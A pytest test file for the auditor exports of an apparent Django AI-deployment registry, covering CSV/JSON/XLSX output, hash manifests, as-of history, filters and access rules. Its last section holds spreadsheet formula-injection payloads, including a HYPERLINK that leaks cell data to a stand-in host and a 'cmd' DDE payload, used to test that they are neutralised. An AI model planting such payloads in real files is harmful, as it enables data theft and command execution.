"""Exports for auditors (SPEC section 8): registry and audit trail, manifest, audit, access."""

import csv
import hashlib
import io
import json
from datetime import timedelta
from unittest import mock

import pytest
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

import workflows
from audit.models import AuditEvent
from audit.services import audit_record
from oversight import exports
from oversight.exports import REGISTRY_COLUMNS, REGISTRY_SHEET, RegistryFilters
from registry.models import Deployment, DeploymentVersion
from reviews.selectors import unverified_required_items
from usecases import services as usecase_services
from usecases.models import UseCase, UseCaseRevision

from .registry_support import PILOT_RESULTS, entry_data, vote_every_role
from .reviews_support import approve_review, reviewer_for
from .shared_world import entry_world, two_entries_world, use_case_of

# The tests of one entry share it, and those of two entries share them (tests/shared_world.py).
one_entry = pytest.mark.shared_world(build=entry_world)

two_entries = pytest.mark.shared_world(build=two_entries_world)


URL = "/api/v1/registry/export/"
AUDIT_URL = "/api/v1/audit-events/"


def _body(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def _csv_rows(response) -> list[dict]:
    # The CSV starts with a UTF-8 byte-order mark (for Excel): utf-8-sig drops it.
    return list(csv.DictReader(io.StringIO(_body(response).decode("utf-8-sig"))))


def _canonical(row) -> bytes:
    """A row as the manifest documents its line: what an auditor's own script writes."""
    return (
        json.dumps(row, sort_keys=True, separators=(",", ":"), ensure_ascii=False) + "\n"
    ).encode()


_TEXT = st.text(alphabet=st.characters(exclude_categories=("Cs",)))
_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers(min_value=-(2**63), max_value=2**63 - 1) | _TEXT,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(_TEXT, inner, max_size=4),
    max_leaves=20,
)


@settings(max_examples=500, deadline=None)
@given(st.dictionaries(_TEXT, _VALUES, max_size=8))
def test_a_rows_canonical_line_is_the_documented_one_byte_for_byte(row):
    """Keys in any script (sorting by code point), quotes, backslashes, control characters,
    line separators and emoji: the line hashed is the one `json.dumps` writes."""
    assert exports._canonical_line(row) == _canonical(row)


def _sha(rows) -> str:
    digest = hashlib.sha256()
    for row in rows:
        digest.update(_canonical(row))
    return digest.hexdigest()


@one_entry
def test_a_csv_of_no_entries_is_its_header_row(api, auditor, entry):
    response = api(auditor).get(URL, {"format": "csv", "stage": "retired"})
    assert response.status_code == 200
    assert _body(response).decode("utf-8-sig").splitlines() == [",".join(REGISTRY_COLUMNS)]
    manifest = json.loads(response["X-Export-Manifest"])
    assert (manifest["rows"], manifest["sha256"]) == (0, hashlib.sha256().hexdigest())


@one_entry
def test_the_csv_has_every_column_and_one_row_per_entry(api, auditor, entry, council):
    response = api(auditor).get(URL, {"format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = _body(response).decode("utf-8-sig")
    assert text.splitlines()[0].split(",") == list(REGISTRY_COLUMNS)
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["reference"] == entry.reference
    assert row["use_case_reference"] == entry.use_case.reference
    assert row["team"] == "Marketing" and row["stage"] == "pilot"
    assert row["channels"] == "email" and row["data_categories"] == "contact_details; behavioural"
    assert row["business_owner"] == "olivia.owner" and row["technical_owner"] == "alice"
    assert "privacy: pia.privacy" in row["approvers"]
    assert row["approval_date"] == timezone.localdate().isoformat()
    assert row["open_incidents"] == "0" and row["overdue"] == "no"
    manifest = json.loads(response["X-Export-Manifest"])
    assert manifest["rows"] == 1 and manifest["format"] == "csv"


@one_entry
def test_open_incidents_and_overdue_are_shown(api, auditor, entry, alice):
    workflows.incident_report(
        actor=alice, deployment=entry, kind="other", severity="low", description="Typo"
    )
    Deployment.objects.filter(pk=entry.pk).update(
        next_review_due=timezone.localdate() - timedelta(days=1)
    )
    (row,) = _csv_rows(api(auditor).get(URL))
    assert row["open_incidents"] == "1" and row["overdue"] == "yes"


@two_entries
def test_filters_narrow_the_rows(api, chair, entry, second_entry, alice, marketing):
    first, second = entry, second_entry
    workflows.deployment_change_stage(
        actor=alice, deployment=second, stage="production", **PILOT_RESULTS
    )
    rows = _csv_rows(api(chair).get(URL, {"stage": "production"}))
    assert [r["reference"] for r in rows] == [second.reference]
    assert len(_csv_rows(api(chair).get(URL, {"team": marketing.pk}))) == 2
    assert _csv_rows(api(chair).get(URL, {"team": marketing.pk + 100})) == []
    assert len(_csv_rows(api(chair).get(URL, {"risk_tier": first.risk_tier}))) == 2
    assert _csv_rows(api(chair).get(URL, {"risk_tier": "high"})) == []


@two_entries
def test_as_of_shows_the_registry_as_it_stood_that_day(api, auditor, entry, second_entry, alice):
    later = second_entry  # created today: absent from yesterday's registry
    yesterday = timezone.localdate() - timedelta(days=1)
    # The entry existed yesterday in pilot; today it moved to production.
    DeploymentVersion.objects.filter(deployment=entry).update(
        valid_from=timezone.now() - timedelta(days=2)
    )
    workflows.deployment_change_stage(
        actor=alice, deployment=entry, stage="production", **PILOT_RESULTS
    )
    rows = _csv_rows(api(auditor).get(URL, {"as_of": yesterday.isoformat()}))
    assert [(r["reference"], r["stage"]) for r in rows] == [(entry.reference, "pilot")]
    today = _csv_rows(api(auditor).get(URL, {"as_of": timezone.localdate().isoformat()}))
    assert [(r["reference"], r["stage"]) for r in today] == [
        (entry.reference, "production"),
        (later.reference, "pilot"),
    ]
    # Filters apply to the historical data.
    assert _csv_rows(api(auditor).get(URL, {"as_of": yesterday, "stage": "production"})) == []


@one_entry
def test_as_of_names_the_use_case_as_its_revision_then_did(api, auditor, entry, alice):
    use_case = entry.use_case
    two_days_ago = timezone.now() - timedelta(days=2)
    DeploymentVersion.objects.filter(deployment=entry).update(valid_from=two_days_ago)
    use_case.revisions.update(submitted_at=two_days_ago)
    # A change review asks for changes; the team renames the use case in revision 2.
    workflows.deployment_update(actor=alice, deployment=entry, data={"model_version": "nbo-2027"})
    vote_every_role(use_case.reviews.get(state="open"), legal="request_changes")
    use_case = usecase_services.usecase_update(
        actor=alice, use_case=UseCase.objects.get(pk=use_case.pk), data={"title": "Offers v2"}
    )
    workflows.usecase_submit(actor=alice, use_case=use_case)

    yesterday = timezone.localdate() - timedelta(days=1)
    then = _csv_rows(api(auditor).get(URL, {"as_of": yesterday.isoformat()}))
    now = _csv_rows(api(auditor).get(URL, {"as_of": timezone.localdate().isoformat()}))

    assert [(r["title"], r["model_version"]) for r in then] == [
        (entry.use_case.title, "nbo-2026.3")
    ]
    assert [(r["title"], r["model_version"]) for r in now] == [("Offers v2", "nbo-2027")]
    assert then[0]["team"] == now[0]["team"] == "Marketing"


@one_entry
def test_the_eu_ai_act_class_and_operator_role_are_the_use_cases(api, auditor, entry):
    use_case = UseCase.objects.get(pk=entry.use_case_id)

    (row,) = _csv_rows(api(auditor).get(URL))

    assert use_case.ai_act_class
    assert (row["ai_act_class"], row["operator_role"]) == (use_case.ai_act_class, "deployer")


@one_entry
def test_as_of_reads_class_and_role_from_the_revision_then_and_older_revisions_have_none(
    api, auditor, entry
):
    revision = entry.use_case.revisions.get()
    as_of = {"as_of": timezone.localdate().isoformat()}
    (then,) = _csv_rows(api(auditor).get(URL, as_of))
    # A revision frozen before the classification answers and the AI Act class existed.
    UseCaseRevision.objects.filter(pk=revision.pk).update(
        ai_act_class="",
        answers={k: v for k, v in revision.answers.items() if k != "operator_role"},
    )

    (older,) = _csv_rows(api(auditor).get(URL, as_of))
    (now,) = _csv_rows(api(auditor).get(URL))

    assert (then["ai_act_class"], then["operator_role"]) == (revision.ai_act_class, "deployer")
    assert (older["ai_act_class"], older["operator_role"]) == ("", "")
    assert (now["ai_act_class"], now["operator_role"]) == (revision.ai_act_class, "deployer")


@two_entries
def test_the_json_export_carries_a_manifest_with_count_and_hash(api, auditor, entry, second_entry):
    response = api(auditor).get(URL, {"format": "json", "stage": "pilot"})
    assert response.status_code == 200
    body = json.loads(_body(response))
    manifest, rows = body["manifest"], body["rows"]
    assert manifest["rows"] == len(rows) == 2
    assert manifest["sha256"] == _sha(rows)
    assert manifest["filters"] == {"stage": "pilot"}
    assert manifest["generated_by"] == auditor.username and manifest["format"] == "json"
    assert len(manifest["audit_chain_head"]["hash"]) == 64
    assert json.loads(response["X-Export-Manifest"]) == manifest


@one_entry
def test_the_csv_and_json_exports_hash_to_the_same_value(api, auditor, entry):
    csv_manifest = json.loads(api(auditor).get(URL, {"format": "csv"})["X-Export-Manifest"])
    json_manifest = json.loads(_body(api(auditor).get(URL, {"format": "json"})))["manifest"]
    assert csv_manifest["sha256"] == json_manifest["sha256"]


@one_entry
def test_the_xlsx_export_opens_and_has_the_rows(api, auditor, entry):
    response = api(auditor).get(URL, {"format": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(_body(response)), read_only=True).active
    values = list(sheet.iter_rows(values_only=True))
    assert list(values[0]) == [column.title for column in REGISTRY_SHEET]
    assert values[1][0] == entry.reference and len(values) == 2
    assert json.loads(response["X-Export-Manifest"])["rows"] == 1


@one_entry
def test_every_export_is_an_audit_event(api, auditor, entry):
    before = AuditEvent.objects.filter(action="exported").count()
    for fmt in ("csv", "json", "xlsx"):
        _body(api(auditor).get(URL, {"format": fmt}))
    events = AuditEvent.objects.filter(action="exported", object_type="registry")
    assert events.count() == before + 3
    manifest = events.last().changes["manifest"][1]
    assert manifest["format"] == "xlsx" and manifest["rows"] == 1
    assert events.last().actor == auditor


@pytest.mark.parametrize("who", ["alice", "council_member", "outsider"])
def test_only_auditors_and_the_chair_export(api, request, who):
    user = request.getfixturevalue(who)
    assert api(user).get(URL).status_code == 403
    assert api(user).get(AUDIT_URL).status_code == 403
    assert api(user).get(AUDIT_URL + "export/").status_code == 403


def test_anonymous_callers_are_refused(api, db):
    assert api().get(URL).status_code in {401, 403}
    assert api().get(AUDIT_URL + "export/").status_code in {401, 403}


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"as_of": "2026-13-45"}, "as_of"),
        ({"format": "pdf"}, "format"),
        ({"team": "x"}, "team"),
        ({"risk_tier": "extreme"}, "risk_tier"),
        ({"stage": "launched"}, "stage"),
    ],
)
def test_bad_parameters_are_400_with_field_messages(api, auditor, params, field):
    response = api(auditor).get(URL, params)
    assert response.status_code == 400
    assert field in response.json()


@pytest.fixture
def make_waived_entry(make_use_case, council, alice, owner):
    """Another entry, of a use case approved the quicker way the chair may take (~500 queries
    rather than the ~1,650 of make_entry's checklist walk): every required role approves and the
    chair approves waiving the unverified items. Its row has approvers and waived items too."""

    def make():
        review = make_use_case("submitted").reviews.get()
        for role in review.required_roles:
            workflows.vote_cast(actor=reviewer_for(review, role), review=review, choice="approve")
        workflows.decision_record_by_chair(
            actor=council["chair"],
            review=review,
            outcome="approved",
            rationale="A four-week pilot",
            waivers=[{"item": i.pk, "reason": "Pilot"} for i in unverified_required_items(review)],
        )
        use_case = UseCase.objects.get(pk=review.use_case_id)
        return workflows.deployment_create(
            actor=alice, use_case=use_case, data=entry_data(owner, alice)
        )

    return make


def _three_entries_world():
    world = two_entries_world()
    use_case = approve_review(use_case_of(world, "submitted").reviews.get(), world["alice"])
    workflows.deployment_create(
        actor=world["alice"], use_case=use_case, data=entry_data(world["owner"], world["alice"])
    )
    return world


# The query counts start from three entries made by make_entry's walk, shared.
three_entries = pytest.mark.shared_world(build=_three_entries_world)

# The queries of an export (today's registry, and as of a day), pinned: a change shows here.
# Today's is one SELECT: the entries with their use cases, owners, approvals, incidents, and
# their approvers, conditions, waivers and KPIs as JSON lists, and who judged pilots' results;
# as of a day reads the use cases, owners, incidents and each approval's lists of each chunk as
# they stood, and no KPIs.
EXPORT_QUERIES, AS_OF_EXPORT_QUERIES = 1, 8


@three_entries
def test_the_query_count_does_not_grow_with_the_entries(make_waived_entry, auditor):
    def count_queries():
        with CaptureQueriesContext(connection) as queries:
            rows = list(exports.registry_rows(user=auditor, filters=RegistryFilters()))
        return len(rows), len(queries)

    count_queries()  # warm the per-request caches (the viewer's roles)
    three = count_queries()
    for _ in range(27):
        make_waived_entry()
    thirty = count_queries()
    assert (three[0], thirty[0]) == (3, 30)
    assert thirty[1] == three[1] == EXPORT_QUERIES


@three_entries
def test_the_query_count_of_as_of_does_not_grow_either(make_waived_entry, auditor):
    def count_queries():
        filters = RegistryFilters(as_of=timezone.localdate())
        with CaptureQueriesContext(connection) as queries:
            rows = list(exports.registry_rows(user=auditor, filters=filters))
        return len(rows), len(queries)

    count_queries()  # warm the per-request caches (the viewer's roles)
    three = count_queries()
    for _ in range(7):
        make_waived_entry()
    ten = count_queries()
    assert (three[0], ten[0]) == (3, 10) and ten[1] == three[1] == AS_OF_EXPORT_QUERIES


@one_entry
def test_the_audit_event_list_filters(api, auditor, entry, alice):
    client = api(auditor)
    response = client.get(
        AUDIT_URL, {"object_type": "registry.deployment", "object_id": str(entry.pk)}
    )
    assert response.status_code == 200
    results = response.json()["results"]
    assert [e["action"] for e in results] == ["created"]
    by_alice = client.get(AUDIT_URL, {"actor": alice.pk, "action": "created"}).json()
    assert by_alice["count"] >= 1
    assert all(e["actor"] == alice.pk for e in by_alice["results"])
    tomorrow = (timezone.localdate() + timedelta(days=1)).isoformat()
    assert client.get(AUDIT_URL, {"from": tomorrow}).json()["count"] == 0
    today = timezone.localdate().isoformat()
    assert client.get(AUDIT_URL, {"from": today, "to": today}).json()["count"] > 0
    assert client.get(AUDIT_URL, {"from": "2026-13-45"}).status_code == 400


@one_entry
def test_the_audit_trail_exports_with_a_manifest_and_is_audited(api, chair, entry):
    client = api(chair)
    response = client.get(
        AUDIT_URL + "export/",
        {"format": "json", "object_type": "registry.deployment", "object_id": str(entry.pk)},
    )
    assert response.status_code == 200
    body = json.loads(_body(response))
    assert [r["action"] for r in body["rows"]] == ["created"]
    assert body["manifest"]["rows"] == 1 and body["manifest"]["sha256"] == _sha(body["rows"])
    assert body["manifest"]["filters"]["object_type"] == "registry.deployment"
    assert AuditEvent.objects.filter(action="exported", object_type="audit_trail").count() == 1
    # Unfiltered, the export stops at the chain head it read: its own event is not in it.
    response = client.get(AUDIT_URL + "export/", {"format": "csv"})
    rows = _csv_rows(response)
    manifest = json.loads(response["X-Export-Manifest"])
    assert len(rows) == manifest["rows"] == manifest["audit_chain_head"]["seq"]
    assert client.get(AUDIT_URL + "export/", {"format": "xlsx"}).status_code == 400


@one_entry
def test_the_management_command_writes_the_file_and_audits(entry, tmp_path):
    for fmt in ("csv", "json", "xlsx"):
        output = tmp_path / f"registry.{fmt}"
        out = io.StringIO()
        call_command("export_registry", "--format", fmt, "--output", str(output), stdout=out)
        assert json.loads(out.getvalue())["rows"] == 1
        assert output.stat().st_size > 0
    assert entry.reference in (tmp_path / "registry.csv").read_text()
    event = AuditEvent.objects.filter(action="exported").last()
    assert event.actor is None and event.changes["manifest"][1]["generated_by"] is None


@one_entry
def test_the_export_as_of_uses_the_server_day_of_a_patched_clock(entry, alice):
    later = timezone.now() + timedelta(days=3)
    with mock.patch("django.utils.timezone.now", return_value=later):
        workflows.deployment_change_stage(
            actor=alice, deployment=entry, stage="production", **PILOT_RESULTS
        )
    rows = list(
        exports.registry_rows(user=None, filters=RegistryFilters(as_of=timezone.localdate()))
    )
    assert [r["stage"] for r in rows] == ["pilot"]
    rows = list(
        exports.registry_rows(user=None, filters=RegistryFilters(as_of=timezone.localdate(later)))
    )
    assert [r["stage"] for r in rows] == ["production"]


def test_items_the_chair_waived_when_approving_are_in_the_export(
    api, auditor, make_use_case, council, alice, owner
):
    review = make_use_case("submitted").reviews.get()
    for role in review.required_roles:
        workflows.vote_cast(actor=reviewer_for(review, role), review=review, choice="approve")
    unverified = unverified_required_items(review)
    assert unverified, "nothing verified: every required item needs a waiver"
    workflows.decision_record_by_chair(
        actor=council["chair"],
        review=review,
        outcome="approved",
        rationale="A four-week pilot on 2% of the list",
        waivers=[{"item": i.pk, "reason": "Checked in the pilot"} for i in unverified],
    )
    workflows.deployment_create(
        actor=alice,
        use_case=UseCase.objects.get(pk=review.use_case_id),
        data=entry_data(owner, alice),
    )
    (row,) = _csv_rows(api(auditor).get(URL, {"format": "csv"}))
    assert row["waived_items"] == "; ".join(f"{i.code}: Checked in the pilot" for i in unverified)


# ---- no export carries a live formula (SPEC section 8) ------------------------------------------

PLANTED = {
    "vendor": '=HYPERLINK("https://example.invalid/?leak="&A2,"Acme")',
    "name": "+1+cmd|' /C calc'!A0",
    "model_version": "-2+3",
    "human_oversight": "@SUM(A1:A9)",
    "customer_disclosure": "\t=1+1",
    "monitoring_kpis": "\r=1+1",
}


@one_entry
def test_text_that_would_start_a_formula_is_text_in_the_csv(api, auditor, entry):
    Deployment.objects.filter(pk=entry.pk).update(**PLANTED)
    (row,) = _csv_rows(api(auditor).get(URL, {"format": "csv"}))
    assert {field: row[field] for field in PLANTED} == {
        field: "'" + value for field, value in PLANTED.items()
    }
    assert row["reference"] == entry.reference  # ordinary text is left alone


@one_entry
def test_text_that_would_start_a_formula_is_a_text_cell_in_the_xlsx(api, auditor, entry):
    Deployment.objects.filter(pk=entry.pk).update(**PLANTED)
    response = api(auditor).get(URL, {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(_body(response))).active
    cells = {
        field: sheet.cell(row=2, column=REGISTRY_COLUMNS.index(field) + 1) for field in PLANTED
    }
    assert {field: cell.data_type for field, cell in cells.items()} == dict.fromkeys(PLANTED, "s")
    # A carriage return is stored escaped as `_x000D_` (ECMA-376), which openpyxl reads as is.
    assert {field: cell.value.replace("_x000D_", "\r") for field, cell in cells.items()} == PLANTED


def test_an_audit_trail_csv_never_carries_a_formula_from_a_planted_value(api, auditor):
    planted = '=HYPERLINK("https://example.invalid/?leak="&A2,"x")'
    audit_record(actor=None, action="login_locked_out", object_ref=planted, changes={})
    rows = _csv_rows(api(auditor).get(f"{AUDIT_URL}export/", {"format": "csv"}))
    assert [r["object_ref"] for r in rows if r["action"] == "login_locked_out"] == ["'" + planted]
